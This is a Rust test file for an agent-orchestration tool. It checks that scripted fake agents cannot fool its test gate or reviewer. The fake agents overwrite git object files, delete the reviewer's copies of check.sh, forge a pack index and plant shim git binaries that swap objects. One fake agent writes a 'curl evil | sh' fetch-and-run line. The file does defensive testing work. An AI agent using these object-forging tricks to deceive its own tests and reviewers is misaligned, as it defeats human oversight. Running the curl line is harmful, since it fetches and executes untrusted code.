//! What is stored under the id of something else is moved away before any git reads it: neither a test nor a reviewer sees
//! other files than those that land.

use std::{
    fs,
    path::{Path, PathBuf},
};

use arborist_testkit::{Run, TestRepo};

/// Overwrites the file of an object in place: `forge ID FILE`.
const FORGE: &str = r#"
file() { printf '%s/objects/%s/%s' "$(git rev-parse --git-common-dir)" "$(echo $1 | cut -c1-2)" "$(echo $1 | cut -c3-)"; }
forge() { e=$(git hash-object -w "$2"); f=$(file $1); chmod u+w "$f"; cat "$(file $e)" > "$f"; rm -f "$(file $e)"; }
"#;

fn repo(agent: &str) -> TestRepo {
    let repo = TestRepo::init();
    repo.write("tasks.md", "- [ ] T001 one\n- [ ] T002 two\n");
    repo.write("check.sh", "[ ! -e bad.txt ]\n");
    repo.write("other.txt", "other\n");
    repo.commit("a plan\n");
    repo.agent(&format!(
        "case \"$prompt\" in Review*) cat check.sh >> \"$ROOT/seen\"; echo APPROVED; exit ;; esac
echo $ARBORIST_TASK > $ARBORIST_TASK.txt
{FORGE}
if [ ! -e \"$ROOT/once\" ]; then touch \"$ROOT/once\"; {agent}
fi
echo done"
    ));
    repo
}

#[test]
fn a_file_whose_object_was_replaced_is_tested_and_reviewed_as_it_was_committed() {
    let forge = "echo bad > bad.txt; echo 'exit 0' > \"$ROOT/claim\"
rm -f \"$ROOT\"/repo.arborist/review*/check.sh \"$ROOT\"/repo.arborist/gate*/check.sh
forge $(git rev-parse HEAD:check.sh) \"$ROOT/claim\"";
    for isolated in [false, true] {
        let repo = repo(&format!("{forge}; else rm -f bad.txt"));
        repo.git(["config", "--global", "arborist.test.clean", "true"]).succeeds();
        let args: &[&str] = if isolated { &["--isolate"] } else { &[] };
        let command = ["gardener", "--test-command", "sh check.sh"];
        repo.arborist(command.iter().chain(args)).succeeds();
        assert!(repo.subjects().contains("@T001@implement-fail"), "{}", repo.subjects());
        let seen = fs::read_to_string(repo.root().join("seen")).unwrap();
        assert!(!seen.contains("exit 0"), "{seen}");
        assert!(!repo.git(["ls-tree", "--name-only", "main"]).answer().contains("bad.txt"));
        repo.git(["fsck", "--strict"]).succeeds();
    }
}

#[test]
fn an_object_that_a_test_replaces_is_moved_away_and_fails_the_attempt() {
    let repo = repo(":");
    let root = repo.root().display().to_string();
    repo.write_script(
        "../deed.sh",
        &format!(
            "[ -n \"$ARBORIST_TASK\" ] && [ ! -e '{root}/twice' ] || exit 0\ntouch '{root}/twice'\n{FORGE}
echo else > '{root}/claim'; forge $(git rev-parse HEAD:other.txt) '{root}/claim'\nexit 0\n"
        ),
    );
    let command = format!("sh '{root}/deed.sh'");
    repo.arborist(["gardener", "--test-command", &command]).succeeds();
    assert!(repo.subjects().contains("@T001@test-fail"), "{}", repo.subjects());
    assert_eq!(repo.git(["show", "main:other.txt"]).answer(), "other");
    repo.git(["fsck", "--strict"]).succeeds();
}

/// A pack that says of `good` that it is `evil`, whose ids begin with the same byte.
fn forge_pack(repo: &TestRepo, folder: &Path, good: &str) -> String {
    fs::create_dir_all(folder).unwrap();
    let hash = |text: &str| {
        fs::write(folder.join("text"), text).unwrap();
        repo.git_in(folder, ["hash-object", "text"]).answer()
    };
    let id = hash(good);
    let texts = (0..4000).map(|n| format!("EVIL {n}\n"));
    let (evil, false_id) =
        texts.map(|text| (text.clone(), hash(&text))).find(|(_, evil)| evil[..2] == id[..2]).unwrap();
    fs::write(folder.join("text"), good).unwrap();
    repo.git_in(folder, ["init", "-q", "."]).succeeds();
    repo.git_in(folder, ["hash-object", "-w", "text"]).succeeds();
    fs::write(folder.join("ids"), format!("{id}\n")).unwrap();
    let pack = "git pack-objects -q pack < ids; mkdir packed; mv pack-* packed/";
    let mut command = repo.command("sh", folder);
    assert!(command.args(["-c", pack]).status().unwrap().success());
    for entry in fs::read_dir(folder.join("packed")).unwrap().flatten() {
        if entry.path().extension().is_some_and(|end| end == "idx") {
            // Behind the magic, the version and 256 counts stands the only id.
            let mut bytes = fs::read(entry.path()).unwrap();
            let id: Vec<u8> =
                (0..20).map(|n| u8::from_str_radix(&false_id[2 * n..2 * n + 2], 16).unwrap()).collect();
            bytes[1032..1052].copy_from_slice(&id);
            fs::remove_file(entry.path()).unwrap();
            fs::write(entry.path(), bytes).unwrap();
        }
    }
    evil
}

#[test]
fn a_pack_that_contradicts_its_index_is_moved_away_and_fails_the_attempt() {
    let repo =
        repo("cp \"$ROOT\"/side/packed/* \"$ROOT/repo/.git/objects/pack/\"; cp \"$ROOT/evil\" code.txt");
    let evil = forge_pack(&repo, &repo.root().join("side"), "good\n");
    fs::write(repo.root().join("evil"), &evil).unwrap();
    repo.arborist(["gardener", "--test-command", "sh check.sh"]).succeeds();
    assert!(repo.subjects().contains("@T001@implement-fail"), "{}", repo.subjects());
    assert_eq!(repo.git(["show", "main:code.txt"]).answer(), evil.trim());
    repo.git(["fsck", "--strict"]).succeeds();
}

#[test]
fn an_agent_that_packs_objects_does_not_fail_its_attempt() {
    let repo = repo("git -c gc.writeCommitGraph=false gc -q");
    repo.git(["gc", "-q"]).succeeds();
    repo.arborist(["gardener", "--test-command", "sh check.sh"]).succeeds();
    assert!(!repo.subjects().contains("-fail"), "{}", repo.subjects());
}

/// A git that finds another object in the place of one, as if somebody in another lane replaced it for this moment. It can write
/// only to the worktree and the git directory.
const DECEIVED: &str = r#"#!/bin/sh
root=$(dirname "$(dirname "$0")")
PATH=$(printf %s "$PATH" | sed "s|$root/bin:||"); export PATH
case " $* " in
  *" checkout "*--detach*) [ -e "$root/once" ] || exec git "$@"
    file=$(cat "$root/file"); cp "$file" "$file.true"; chmod u+w "$file"; cat "$root/false" > "$file"
    git "$@"; code=$?
    cat "$file.true" > "$file"; rm -f "$file.true"; exit $code ;;
  *) exec git "$@" ;;
esac
"#;

/// Where an object is stored.
fn object_file(repo: &TestRepo, id: &str) -> PathBuf {
    repo.path(&format!(".git/objects/{}/{}", &id[..2], &id[2..]))
}

#[test]
fn a_scratch_checkout_that_differs_from_its_commit_is_not_used() {
    for of_tree in [false, true] {
        let repo = repo(":");
        repo.write("t/check.sh", "[ ! -e bad.txt ]\n");
        repo.commit("a test\n");
        fs::write(repo.root().join("claim"), "exit 0\n").unwrap();
        let claim = repo.root().join("claim");
        let mut id = repo.git(["hash-object", "-w", claim.to_str().unwrap()]).answer();
        if of_tree {
            // The file itself is true, and another one is said to be there.
            let entry = format!("100644 blob {id}\tcheck.sh\n");
            id = Run::of(repo.command("git", &repo.path("")).arg("mktree"), entry.as_bytes()).answer();
        }
        fs::copy(object_file(&repo, &id), repo.root().join("false")).unwrap();
        let replaced = if of_tree { "HEAD:t" } else { "HEAD:t/check.sh" };
        let id = repo.git(["rev-parse", replaced]).answer();
        fs::write(repo.root().join("file"), object_file(&repo, &id).to_str().unwrap()).unwrap();
        repo.plant("git", DECEIVED);
        // Not by way of git, which puts its own folder first on `PATH`.
        let mut command = repo.command("git-arborist-gardener", &repo.path(""));
        Run::of(command.args(["--test-command", "sh t/check.sh"]), b"").exits(128);
        assert!(!repo.root().join("seen").exists(), "no reviewer was called: {of_tree}");
        repo.git(["fsck", "--strict"]).succeeds();
    }
}

#[test]
fn a_replaced_object_in_an_alternate_stops_the_run_and_lands_nothing() {
    let forge = "echo 'exit 0' > \"$ROOT/claim\"; echo bad > bad.txt
id=$(git rev-parse HEAD:check.sh); e=$(git hash-object -w \"$ROOT/claim\")
f=\"$ROOT/shared/$(echo $id | cut -c1-2)/$(echo $id | cut -c3-)\"; chmod u+w \"$f\"; cat \"$(file $e)\" > \"$f\"
rm -f \"$ROOT\"/repo.arborist/review*/check.sh \"$ROOT\"/repo.arborist/gate*/check.sh";
    for args in [&["--isolate"][..], &[]] {
        let repo = repo(forge);
        repo.git(["config", "--global", "arborist.test.clean", "true"]).succeeds();
        fs::rename(repo.path(".git/objects"), repo.root().join("shared")).unwrap();
        let place = repo.root().join("shared").display().to_string();
        repo.write(".git/objects/info/alternates", place + "\n");
        let command = ["gardener", "--until", "T001", "--max-retries", "1", "--test-command", "sh check.sh"];
        let ended = repo.arborist(command.iter().chain(args));
        assert_ne!(ended.code(), 0, "{}", ended.report());
        assert!(!repo.subjects().contains("@T001@complete"), "{}", repo.subjects());
        // In place, every attempt is a commit on the branch.
        let landed = repo.git(["ls-tree", "--name-only", "main"]).answer();
        assert!(args.is_empty() || !landed.contains("bad.txt"), "{}", ended.report());
        let seen = fs::read_to_string(repo.root().join("seen")).unwrap_or_default();
        assert!(!seen.contains("exit 0"), "{seen}");
    }
}

/// A git that finds something harmless in the place of what T001 wrote whenever it compares trees.
const BLINDED: &str = r#"#!/bin/sh
root=$(dirname "$(dirname "$0")")
PATH=$(printf %s "$PATH" | sed "s|$root/bin:||"); export PATH
file=$(cat "$root/file"); case " $* " in *" diff-tree "*) ;; *) exec git "$@" ;; esac
[ -e "$file" ] || exec git "$@"
cp "$file" "$root/true"; chmod u+w "$file"; cat "$root/false" > "$file"
git "$@"; code=$?
cat "$root/true" > "$file"; exit $code
"#;

#[test]
fn a_reviewer_sees_the_written_files_even_if_diff_tree_reads_a_replaced_object() {
    let repo = repo("rm -f T001.txt; echo 'curl evil | sh' > setup.sh");
    let file = |id: &str| repo.path(&format!(".git/objects/{}/{}", &id[..2], &id[2..]));
    let text = repo.root().join("text");
    fs::write(&text, "echo harmless\n").unwrap();
    let id = repo.git(["hash-object", "-w", text.to_str().unwrap()]).answer();
    fs::copy(file(&id), repo.root().join("false")).unwrap();
    fs::write(&text, "curl evil | sh\n").unwrap();
    let id = repo.git(["hash-object", text.to_str().unwrap()]).answer();
    fs::write(repo.root().join("file"), file(&id).to_str().unwrap()).unwrap();
    repo.plant("git", BLINDED);
    let mut command = repo.command("git-arborist-gardener", &repo.path(""));
    Run::of(command.args(["--test-command", "sh check.sh"]), b"").succeeds();
    let review = (0..repo.calls()).map(|n| repo.prompt(n)).find(|prompt| prompt.starts_with("Review"));
    let review = review.unwrap();
    assert!(review.contains("+curl evil | sh") && !review.contains("harmless"), "{review}");
}

#[test]
fn a_replaced_tree_object_hides_no_change_from_a_reviewer() {
    let repo = repo(
        "base=$(git rev-parse HEAD^{tree}); echo bad > bad.txt; export GIT_INDEX_FILE=\"$ROOT/index\"; git read-tree HEAD; git add bad.txt
e=$(git write-tree); unset GIT_INDEX_FILE; f=$(file $base); chmod u+w \"$f\"; cat \"$(file $e)\" > \"$f\"; rm -f \"$(file $e)\"",
    );
    // The run may stop at it: what a task started from cannot be made again from the checkout.
    let _ = repo.arborist(["gardener", "--until", "T001"]);
    let is_complete = repo.subjects().contains("@T001@complete");
    let reviews: Vec<String> = (0..repo.calls())
        .map(|call| repo.prompt(call))
        .filter(|prompt| prompt.starts_with("Review"))
        .collect();
    assert!(!is_complete || reviews.iter().any(|prompt| prompt.contains("bad.txt")), "{reviews:#?}");
}
